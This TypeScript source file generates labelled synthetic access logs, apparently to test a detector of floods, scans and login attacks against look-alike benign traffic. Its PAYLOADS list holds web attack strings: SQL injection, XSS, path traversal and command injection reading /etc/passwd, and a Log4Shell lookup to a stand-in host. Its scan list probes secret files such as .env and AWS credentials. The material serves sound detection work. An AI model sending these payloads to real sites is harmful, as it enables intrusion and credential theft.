/**
 * A generator of labelled synthetic access logs in combined format, of any size, deterministic for a seed.
 * Every actor (visitor, crawler, attacker) is a stream of timed requests; a heap merges them in time order,
 * so memory grows with the number of actors, not lines.
 *
 * The day always has normal visitors (browsing sessions with page assets, pauses, the odd 404 or login),
 * crawlers and an office behind NAT. On top come scenario families (FAMILIES): the attacks logwarden must
 * catch, alone or spread over many addresses, and the benign traffic that looks like them and must not be
 * blocked. Every family draws its sizes and rates from ranges, so that no detector can key on one number.
 */
import { MORE_FAMILIES } from './families.js';
import { BROWSERS, CRAWLERS, DAY, MOBILE, World, hour, type Actor, type Family, type Request, type Stream } from './world.js';

export type { Actor, ActorLabel } from './world.js';

export interface GenerateOptions {
  readonly lines: number;
  readonly clients: number;
  readonly attacks: boolean;
  readonly seed: number;
  /** Scenario families added to the day (FAMILY_NAMES); default: flood, scan, brute-force when `attacks`. */
  readonly families?: readonly string[];
  /**
   * `lines` is the everyday traffic only (visitors, crawlers, the office) and the families come on top, as a
   * scenario mixed into a site of a given size; by default it is every line written.
   */
  readonly familiesOnTop?: boolean;
  /**
   * The day holds the families' actors only: no visitors, crawlers or office (`lines` and `clients` are then
   * not used). By default when every family asked for is one that comes alone (Family.alone), as a log where
   * a vulnerability scanner is the only client.
   */
  readonly alone?: boolean;
  /** Start of the day the log covers (ms since the epoch). */
  readonly start?: number;
  /** Zone offset written in timestamps, minutes east of UTC. */
  readonly tzOffset?: number;
}

const SCAN_PATHS = [
  '/.env',
  '/.git/config',
  '/wp-login.php',
  '/wp-admin/',
  '/administrator/',
  '/admin/',
  '/phpmyadmin/',
  '/pma/',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/cgi-bin/luci',
  '/boaform/admin/formLogin',
  '/HNAP1/',
  '/config.php',
  '/backup.sql',
  '/db.sql',
  '/.aws/credentials',
  '/server-status',
  '/actuator/health',
  '/console/',
  '/manager/html',
  '/xmlrpc.php',
  '/shell.php',
  '/setup.php',
  '/.svn/entries',
  '/wp-config.php.bak',
  '/owa/',
];

const SOCIAL = ['https://t.co/', 'https://www.facebook.com/', 'https://news.ycombinator.com/', 'https://www.reddit.com/r/travel/', 'https://l.instagram.com/'];
const TOUCH_ICONS = [
  '/apple-touch-icon.png',
  '/apple-touch-icon-precomposed.png',
  '/apple-touch-icon-120x120.png',
  '/apple-touch-icon-152x152-precomposed.png',
];
/** Attack payloads a vulnerability scanner sends in parameters (templates: NUM is a number). */
const PAYLOADS = [
  "/products/NUM?id=NUM'%20OR%20'1'='1",
  '/products/NUM?id=NUM%20UNION%20SELECT%20NULL,NULL,version()--',
  '/search?q=%3Cscript%3Ealert(NUM)%3C/script%3E',
  '/search?q=%22%3E%3Csvg/onload=alert(NUM)%3E',
  '/download?file=../../../../etc/passwd',
  '/download?file=..%2f..%2f..%2f..%2fetc%2fpasswd',
  '/contact?email=a%40b.c%3Bcat%20/etc/passwd',
  '/rooms?date=NUM%7Cid',
  '/blog/post-NUM?page=1%20AND%20SLEEP(5)',
  '/index.php?page=php://filter/convert.base64-encode/resource=index',
  '/search?q=$%7Bjndi:ldap://x.example/a%7D',
  "/products/NUM?sort=name'",
  '/blog/post-NUM?id=NUM)%20AND%201=1--',
  '/index.php?s=/index/think/app/invokefunction&function=call_user_func_array',
];

const FIRST_FAMILIES: readonly Family[] = [
  {
    name: 'flood',
    attack: true,
    description: 'HULK-style floods from single addresses: hundreds of requests a minute, random queries and agents',
    add(w, size) {
      for (let i = 0; i < 2; i++) {
        const minutes = w.int(2, 6);
        const rate = w.int(300, 900);
        const t0 = w.start + w.int(2, 20) * hour;
        w.add(
          'flood',
          w.paced(
            t0,
            Math.max(2, Math.round(minutes * size)),
            () => rate * (0.8 + 0.4 * w.rand()),
            (t) => ({
              time: t,
              method: 'GET',
              target: w.buster('/'),
              status: w.rand() < 0.1 ? 503 : 200,
              bytes: w.int(0, 6000),
              referer: `http://www.google.com/?q=${Math.floor(w.rand() * 1e9).toString(36)}`,
              agent: `${w.pick(BROWSERS)} r${w.int(1, 999)}`,
            }),
          ),
          { v6: i === 1, family: 'flood' },
        );
      }
    },
  },
  {
    name: 'distributed-flood',
    attack: true,
    description: 'a botnet: many addresses, each a mild 15-45 requests a minute for 5-20 minutes, on one page with cache-busting queries',
    add(w, size) {
      const members = Math.round(w.int(40, 200) * size);
      const t0 = w.start + w.int(2, 20) * hour;
      const minutes = w.int(5, 20);
      const page = w.page().split('?')[0]!;
      const nets = Array.from({ length: w.int(1, 12) }, () => w.net());
      const overloaded = w.rand() * 0.5;
      for (let i = 0; i < members; i++) {
        const rate = w.int(15, 45);
        const agent = w.browser();
        const start = t0 + w.int(0, 90) * 1000;
        w.add(
          'flood',
          w.paced(
            start,
            minutes + w.int(-2, 2),
            () => rate * (0.7 + 0.6 * w.rand()),
            (t) => ({
              time: t,
              method: 'GET',
              target: w.buster(page),
              status: w.rand() < overloaded ? 503 : 200,
              bytes: w.int(0, 20000),
              referer: w.rand() < 0.5 ? '-' : w.site + page,
              agent,
            }),
          ),
          { net: w.rand() < 0.5 ? w.pick(nets) : undefined, family: 'distributed-flood' },
        );
      }
    },
  },
  {
    name: 'slow-flood',
    attack: true,
    description: 'single addresses that never pass ~100 requests a minute but keep it up for hours (random queries, rotating agents)',
    add(w, size) {
      for (let i = 0, n = Math.max(1, Math.round(w.int(1, 3) * size)); i < n; i++) {
        const rate = w.int(30, 110);
        const minutes = w.int(90, 300);
        const t0 = w.start + w.int(0, 18) * hour;
        const pages = Array.from({ length: w.int(1, 4) }, () => w.page().split('?')[0]!);
        w.add(
          'flood',
          w.paced(
            t0,
            minutes,
            () => rate * (0.6 + 0.5 * w.rand()),
            (t) => ({
              time: t,
              method: 'GET',
              target: w.buster(w.pick(pages)),
              status: w.rand() < 0.05 ? 503 : 200,
              bytes: w.int(2000, 40000),
              referer: '-',
              agent: w.browser(),
            }),
          ),
          { family: 'slow-flood' },
        );
      }
    },
  },
  {
    name: 'scan',
    attack: true,
    description: 'fast scanners probing admin panels, secrets and exploit paths, mostly answered 404',
    add(w, size) {
      for (let i = 0; i < 2; i++) {
        const count = Math.max(40, Math.round(w.int(150, 300) * size));
        const agent = w.pick(['Mozilla/5.0 zgrab/0.x', 'python-requests/2.31.0', 'Mozilla/5.0 (compatible; Nmap Scripting Engine)']);
        let t = w.start + w.int(1, 22) * hour;
        const s = function* (): Generator<Request> {
          for (let k = 0; k < count; k++) {
            const base = SCAN_PATHS[k % SCAN_PATHS.length]!;
            yield {
              time: t,
              method: 'GET',
              target: k < SCAN_PATHS.length ? base : `${base}${k}`,
              status: w.rand() < 0.9 ? 404 : 403,
              bytes: 196,
              referer: '-',
              agent,
            };
            t += w.int(100, 2000);
          }
        };
        w.add('scan', s(), { family: 'scan' });
      }
    },
  },
  {
    name: 'slow-scan',
    attack: true,
    description: 'vulnerability scanners throttled to a few requests a minute: they crawl the site, then send attack payloads',
    add(w, size) {
      for (let i = 0, n = Math.max(1, Math.round(w.int(1, 3) * size)); i < n; i++) {
        const perMinute = 1 + w.rand() * 5;
        const count = w.int(150, 900);
        const agent = w.rand() < 0.5 ? w.pick(BROWSERS) : w.pick(['Mozilla/5.0 (compatible; scanner)', 'Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)']);
        let t = w.start + w.int(0, 16) * hour;
        const s = function* (): Generator<Request> {
          for (let k = 0; k < count; k++) {
            const r = w.rand();
            let target: string;
            let status: number;
            if (r < 0.25) {
              target = w.page();
              status = 200;
            } else if (r < 0.45) {
              target = w.pick(SCAN_PATHS);
              status = w.rand() < 0.85 ? 404 : 403;
            } else {
              target = w.pick(PAYLOADS).replace(/NUM/g, String(w.int(1, 250)));
              status = w.pick([200, 200, 400, 403, 404, 500]);
            }
            yield { time: t, method: w.rand() < 0.1 ? 'POST' : 'GET', target, status, bytes: w.int(150, 9000), referer: '-', agent };
            t += Math.round((60000 / perMinute) * (0.3 + 1.4 * w.rand()));
          }
        };
        w.add('scan', s(), { family: 'slow-scan' });
      }
    },
  },
  {
    name: 'brute-force',
    attack: true,
    description: 'a login brute force from one address: a POST every few seconds for hours',
    add(w, size) {
      const count = Math.max(40, Math.round(400 * size));
      const path = w.pick(['/wp-login.php', '/login', '/administrator/index.php']);
      let t = w.start + w.int(1, 18) * hour;
      const s = function* (): Generator<Request> {
        for (let k = 0; k < count; k++) {
          if (k % 25 === 0) yield { time: t, method: 'GET', target: path, status: 200, bytes: 4800, referer: '-', agent: BROWSERS[0]! };
          yield { time: t, method: 'POST', target: path, status: 200, bytes: 4950, referer: w.site + path, agent: BROWSERS[0]! };
          t += w.int(5, 30) * 1000;
        }
      };
      w.add('brute-force', s(), { family: 'brute-force' });
    },
  },
  {
    name: 'credential-stuffing',
    attack: true,
    description: 'a login run spread over many addresses: each posts a handful of passwords within the same half hour',
    add(w, size) {
      const members = Math.round(w.int(30, 150) * size);
      const t0 = w.start + w.int(1, 20) * hour;
      const window = w.int(10, 45) * 60000;
      const path = w.pick(['/login', '/wp-login.php', '/api/v1/session', '/user/login']);
      for (let i = 0; i < members; i++) {
        const tries = w.int(3, 15);
        const agent = w.browser();
        let t = t0 + Math.floor(w.rand() * window * 0.5);
        const s = function* (): Generator<Request> {
          if (w.rand() < 0.5) yield { time: t, method: 'GET', target: path, status: 200, bytes: 3100, referer: '-', agent };
          for (let k = 0; k < tries; k++) {
            t += w.int(2, 60) * 1000;
            yield {
              time: t,
              method: 'POST',
              target: path,
              status: w.rand() < 0.5 ? 401 : 200,
              bytes: w.int(200, 3200),
              referer: w.rand() < 0.5 ? '-' : w.site + path,
              agent,
            };
          }
        };
        w.add('brute-force', s(), { family: 'credential-stuffing' });
      }
    },
  },
  {
    name: 'flash-crowd',
    attack: false,
    description: 'hundreds of real visitors arriving within minutes on one page from a social link, loading its assets',
    add(w, size) {
      const members = Math.round(w.int(80, 400) * size);
      const t0 = w.start + w.int(8, 20) * hour;
      const page = `/blog/post-${w.int(1, 400)}`;
      const from = w.pick(SOCIAL);
      for (let i = 0; i < members; i++) {
        const agent = w.browser();
        const t = t0 + Math.floor(w.rand() * w.int(3, 10) * 60000);
        const s = function* (): Generator<Request> {
          let at = t;
          for (const r of w.view(at, agent, page, from)) {
            at = r.time;
            yield r;
          }
          for (let k = w.int(0, 3); k > 0; k--) {
            at += w.int(10, 90) * 1000;
            for (const r of w.view(at, agent, w.page(), w.site + page)) {
              at = r.time;
              yield r;
            }
          }
        };
        w.add('crowd', s(), { v6: w.rand() < 0.2, family: 'flash-crowd' });
      }
    },
  },
  {
    name: 'monitors',
    attack: false,
    description: 'uptime monitors: the same URL every 30 s to 5 min, all day',
    add(w) {
      for (let i = 0, n = w.int(1, 3); i < n; i++) {
        const period = w.pick([30, 60, 60, 300]) * 1000;
        const target = w.pick(['/', '/health', '/status', '/api/health']);
        const method = w.rand() < 0.5 ? 'HEAD' : 'GET';
        const agent = w.pick([
          'Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)',
          'Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)',
          'Blackbox Exporter/0.24.0',
        ]);
        w.add(
          'monitor',
          w.periodic(w.start + w.int(0, 60000), period, 2000, () => ({
            method,
            target,
            status: 200,
            bytes: method === 'HEAD' ? 0 : 1200,
            referer: '-',
            agent,
          })),
          { family: 'monitors' },
        );
      }
    },
  },
  {
    name: 'crawlers',
    attack: false,
    description: 'well-behaved search crawlers: many pages all day at a polite pace, the odd 404 and robots.txt',
    add(w, size) {
      for (const agent of [
        ...CRAWLERS,
        'Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)',
        'Mozilla/5.0 (compatible; DuckDuckBot-Https/1.1; https://duckduckgo.com/duckduckbot)',
      ]) {
        w.add('crawler', w.crawler(Math.round(w.int(1500, 6000) * size), agent, w.start + w.int(0, hour)), { family: 'crawlers' });
      }
    },
  },
  {
    name: 'touch-icons',
    attack: false,
    description: 'phones browsing normally that ask again and again for missing apple-touch-icon and favicon files',
    add(w, size) {
      for (let i = 0, n = Math.max(2, Math.round(w.int(3, 10) * size)); i < n; i++) {
        const agent = w.pick(MOBILE);
        const miss = (): Request | null =>
          w.rand() < 0.6 ? { time: 0, method: 'GET', target: w.pick([...TOUCH_ICONS, '/favicon.ico']), status: 404, bytes: 209, referer: '-', agent } : null;
        w.add('icons', w.visitor(w.int(20, 120), agent, w.start + Math.floor(w.rand() * DAY * 0.8), DAY, 0.5, miss), { family: 'touch-icons' });
      }
    },
  },
  {
    name: 'office-nat',
    attack: false,
    description: 'offices behind one NAT address: dozens of people browsing through working hours',
    add(w, size) {
      for (let i = 0, n = w.int(1, 3); i < n; i++) {
        const people = Array.from({ length: w.int(10, 60) }, () => w.browser());
        const budget = Math.round(w.int(2000, 9000) * size);
        w.add(
          'office',
          w.visitor(budget, () => w.pick(people), w.start + w.int(6, 9) * hour, w.int(8, 11) * hour, 0.03),
          { family: 'office-nat' },
        );
      }
    },
  },
  {
    name: 'api-pollers',
    attack: false,
    description: 'API clients polling one endpoint every few seconds all day, a new timestamp in each query',
    add(w) {
      for (let i = 0, n = w.int(1, 3); i < n; i++) {
        const period = w.int(5, 30) * 1000;
        const agent = w.pick(['okhttp/4.12.0', 'python-requests/2.31.0', 'Go-http-client/1.1', 'axios/1.6.2']);
        const target = w.pick(['/api/v1/status', '/api/v1/prices', '/api/v1/availability']);
        let since = 0;
        w.add(
          'poller',
          w.periodic(w.start + w.int(0, 60000), period, 1000, () => ({
            method: 'GET',
            target: `${target}?since=${1700000000 + (since += period / 1000)}`,
            status: w.rand() < 0.5 ? 200 : 304,
            bytes: w.int(0, 2000),
            referer: '-',
            agent,
          })),
          { family: 'api-pollers' },
        );
      }
    },
  },
  {
    name: 'feed-readers',
    attack: false,
    description: 'feed readers fetching the RSS/Atom feed every 10-60 minutes',
    add(w) {
      for (let i = 0, n = w.int(2, 6); i < n; i++) {
        const period = w.int(10, 60) * 60000;
        const target = w.pick(['/feed.xml', '/rss', '/atom.xml']);
        const agent = w.pick(['Feedly/1.0 (+http://www.feedly.com/fetcher.html)', 'NewsBlur Feed Fetcher', 'Tiny Tiny RSS/22.08', 'FreshRSS/1.21']);
        w.add(
          'feed',
          w.periodic(w.start + w.int(0, period), period, 60000, () => ({
            method: 'GET',
            target,
            status: w.rand() < 0.8 ? 304 : 200,
            bytes: 0,
            referer: '-',
            agent,
          })),
          { family: 'feed-readers' },
        );
      }
    },
  },
  {
    name: 'cdn-proxy',
    attack: false,
    description: 'a CDN or reverse proxy in front of the site: a few addresses carry many visitors (X-Forwarded-For names them)',
    add(w, size) {
      for (let i = 0, n = w.int(2, 4); i < n; i++) {
        const proxy = w.address(false, '198.51.100');
        const visitors = Math.round(w.int(40, 150) * size);
        for (let v = 0; v < visitors; v++) {
          const real = w.address(w.rand() < 0.2);
          const inner = w.visitor(w.int(10, 80), w.browser(), w.start + Math.floor(w.rand() * DAY * 0.9), DAY, 1);
          const s = function* (): Generator<Request> {
            for (const r of inner) yield { ...r, forwardedFor: real };
          };
          // Every visitor behind the proxy is its own stream; the proxy's address is the one the log shows.
          w.streams.push([{ address: proxy, label: 'proxy', family: 'cdn-proxy' }, s()]);
        }
        w.add('proxy', (function* () {})(), { address: proxy, family: 'cdn-proxy' });
      }
    },
  },
];

/** Every scenario family: the first ones above, then those of families.ts. */
export const FAMILIES: readonly Family[] = [...FIRST_FAMILIES, ...MORE_FAMILIES];

export const FAMILY_NAMES: readonly string[] = FAMILIES.map((f) => f.name);
/** The first families (those of this file), before families.ts's. */
export const FIRST_FAMILY_NAMES: readonly string[] = FIRST_FAMILIES.map((f) => f.name);
export const CLASSIC_FAMILIES: readonly string[] = ['flood', 'scan', 'brute-force'];

export function* generateRequests(opts: GenerateOptions, actors: Actor[]): Generator<[Actor, Request]> {
  const start = opts.start ?? Date.UTC(2026, 2, 1) - (opts.tzOffset ?? 60) * 60000;
  const w = new World(opts.seed, start, actors);
  const scale = Math.max(0.05, Math.min(1, opts.lines / 20000));
  const families = opts.families ?? (opts.attacks ? CLASSIC_FAMILIES : []);
  const chosen = families.map((name) => {
    const f = FAMILIES.find((x) => x.name === name);
    if (!f) throw new Error(`unknown scenario family "${name}" (one of ${FAMILY_NAMES.join(', ')})`);
    return f;
  });
  for (const f of chosen) f.add(w, scale);
  if (opts.alone ?? (chosen.length > 0 && chosen.every((f) => f.alone))) {
    yield* mergeStreams(w.streams);
    return;
  }
  for (const agent of CRAWLERS) w.add('crawler', w.crawler(Math.round(w.int(300, 800) * scale), agent, start + w.int(0, hour)));
  // An office behind NAT: many people, many assets, all day, but no one minute looks like a flood.
  w.add('office', w.visitor(Math.round(4000 * scale), BROWSERS[2]!, start + 7 * hour, 11 * hour, 0.1));
  // Everything but the normal visitors is drawn first, to know how many lines it makes: the visitors write
  // exactly the rest of the lines asked for (the rest of the everyday lines, with `familiesOnTop`).
  let reserved = 0;
  w.streams.forEach(([actor, stream], k) => {
    const list = [...(stream as Generator<Request>)];
    if (!(opts.familiesOnTop && actor.family)) reserved += list.length;
    w.streams[k] = [actor, list[Symbol.iterator]()];
  });
  const budgets = visitorBudgets(opts.lines - reserved, opts.clients, () => w.rand());
  for (const budget of budgets) {
    const t0 = start + Math.floor(w.rand() * DAY * 0.9);
    // A visitor with much to write browses faster, so that its day holds it (and it writes all of it).
    const pace = Math.min(1, (NATURAL_DAY * (start + DAY - t0)) / DAY / budget);
    w.add('normal', w.visitor(budget, w.pick(BROWSERS), t0, Infinity, pace), { v6: w.rand() < 0.1 });
  }
  yield* mergeStreams(w.streams);
}

/** About how many requests a visitor browsing at the normal pace makes in a whole day. */
const NATURAL_DAY = 150;

/**
 * Each visitor's number of requests: spread around the mean (0.3x to 1.7x), at least one each, adding up to
 * exactly `total` when it is at least the number of visitors.
 */
export function visitorBudgets(total: number, clients: number, rand: () => number): number[] {
  const mean = Math.max(1, total / Math.max(1, clients));
  const budgets = Array.from({ length: clients }, () => Math.max(1, Math.round(mean * (0.3 + 1.4 * rand()))));
  let diff = total - budgets.reduce((a, b) => a + b, 0);
  for (let i = 0; diff !== 0 && clients > 0; i = (i + 1) % clients) {
    if (diff > 0) {
      budgets[i]!++;
      diff--;
    } else if (budgets[i]! > 1) {
      budgets[i]!--;
      diff++;
    } else if (budgets.every((b) => b === 1)) break;
  }
  return budgets;
}

/** The streams merged in time order, with a binary heap keyed by each stream's next request time. */
function* mergeStreams(streams: Array<[Actor, Stream]>): Generator<[Actor, Request]> {
  const heap: Array<[number, Request, Actor, Stream]> = [];
  const up = (i: number) => {
    while (i > 0) {
      const p = (i - 1) >> 1;
      if (heap[p]![0] <= heap[i]![0]) break;
      [heap[p], heap[i]] = [heap[i]!, heap[p]!];
      i = p;
    }
  };
  const down = (i: number) => {
    for (;;) {
      const l = 2 * i + 1;
      const r = l + 1;
      let m = i;
      if (l < heap.length && heap[l]![0] < heap[m]![0]) m = l;
      if (r < heap.length && heap[r]![0] < heap[m]![0]) m = r;
      if (m === i) return;
      [heap[m], heap[i]] = [heap[i]!, heap[m]!];
      i = m;
    }
  };
  for (const [actor, s] of streams) {
    const n = s.next();
    if (!n.done) {
      heap.push([n.value.time, n.value, actor, s]);
      up(heap.length - 1);
    }
  }
  while (heap.length > 0) {
    const [, req, actor, s] = heap[0]!;
    yield [actor, req];
    const n = s.next();
    if (n.done) {
      const last = heap.pop()!;
      if (heap.length > 0) {
        heap[0] = last;
        down(0);
      }
    } else {
      heap[0] = [n.value.time, n.value, actor, s];
      down(0);
    }
  }
}

const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];

export function clfTime(ms: number, tzOffset: number): string {
  const d = new Date(ms + tzOffset * 60000);
  const p2 = (n: number) => String(n).padStart(2, '0');
  const sign = tzOffset < 0 ? '-' : '+';
  const abs = Math.abs(tzOffset);
  return (
    `${p2(d.getUTCDate())}/${MONTHS[d.getUTCMonth()]}/${d.getUTCFullYear()}:` +
    `${p2(d.getUTCHours())}:${p2(d.getUTCMinutes())}:${p2(d.getUTCSeconds())} ${sign}${p2(Math.floor(abs / 60))}${p2(abs % 60)}`
  );
}

/** Yields combined-format lines (without newline) and fills `actors` with every address and its label. */
export function* generateLog(opts: GenerateOptions, actors: Actor[]): Generator<string> {
  const tz = opts.tzOffset ?? 60;
  let lastSecond = -1;
  let stamp = '';
  for (const [actor, r] of generateRequests(opts, actors)) {
    const second = Math.floor(r.time / 1000);
    if (second !== lastSecond) {
      lastSecond = second;
      stamp = clfTime(second * 1000, tz);
    }
    const xff = r.forwardedFor ? ` "${r.forwardedFor}"` : '';
    yield `${actor.address} - - [${stamp}] "${r.method} ${r.target} HTTP/1.1" ${r.status} ${r.bytes} "${r.referer}" "${r.agent}"${xff}`;
  }
}
